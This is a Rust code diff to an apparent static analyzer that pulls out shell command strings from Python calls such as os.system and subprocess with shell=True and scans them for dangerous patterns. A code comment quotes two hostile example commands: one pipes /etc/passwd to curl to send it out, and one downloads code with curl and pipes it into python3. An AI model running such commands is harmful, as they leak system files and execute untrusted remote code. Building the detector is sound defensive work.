@@ -154,6 +154,29 @@ impl<'s> Analysis<'s> {
         }
     }
 
+    /// The shell code a string argument holds: its constant text, or an f-string's with each
+    /// placeholder as a shell variable whose value is unknown.
+    fn shell_text(&self, arg: Node, value: &Val) -> Option<String> {
+        if let Some(t) = &value.text {
+            if !t.contains("{}") {
+                return Some(t.clone());
+            }
+        }
+        if arg.kind() != "string" {
+            return None;
+        }
+        let mut text = String::new();
+        let mut c = arg.walk();
+        for p in arg.named_children(&mut c) {
+            match p.kind() {
+                "string_content" => text.push_str(self.text(p)),
+                "interpolation" => text.push_str("\"$PY_VALUE\""),
+                _ => {}
+            }
+        }
+        (text.len() <= 1 << 16).then_some(text)
+    }
+
     /// Whether `name` is a parameter of the function being walked: whatever one call in the
     /// file passes, other callers may pass anything.
     fn is_parameter(&self, name: &str) -> bool {
@@ -728,6 +751,25 @@ impl<'s> Analysis<'s> {
                 | "pty.spawn"
         ) || callee.starts_with("subprocess.")
             && (shell_true || positional.first().is_some_and(|(a, _)| a.kind() != "list"));
+        // A string a shell runs is shell code: `os.system("cat /etc/passwd | curl -d @- URL")`,
+        // `subprocess.run(f"curl -s {u} | python3 -", shell=True)`.
+        let shell_string = matches!(
+            callee.as_str(),
+            "os.system"
+                | "os.popen"
+                | "commands.getoutput"
+                | "subprocess.getoutput"
+                | "subprocess.getstatusoutput"
+        ) || callee.starts_with("subprocess.") && shell_true;
+        if shell_string {
+            if let Some(script) = positional.first().and_then(|(a, v)| self.shell_text(*a, v)) {
+                let mut found = Vec::new();
+                super::shell::analyze(&script, &mut found);
+                for h in found {
+                    self.hit(h.rule, n);
+                }
+            }
+        }
         if runs_code {
             let t = positional
                 .first()
